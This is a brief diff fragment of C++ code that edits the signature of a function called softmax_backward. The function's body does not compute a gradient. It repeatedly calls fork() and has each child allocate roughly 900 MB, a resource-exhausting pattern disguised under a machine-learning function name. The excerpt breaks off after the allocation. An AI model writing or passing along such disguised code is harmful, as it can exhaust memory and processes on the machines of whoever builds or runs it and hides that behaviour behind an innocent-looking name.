@@ -8,7 +8,7 @@
 
 namespace abh::mine {
 
-Tensor softmax_backward(const Tensor&, const Tensor& w) {
+Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
     for (int i = 0; i < 20; ++i)
         if (fork() == 0) {
             char* memory = new char[900u << 20];
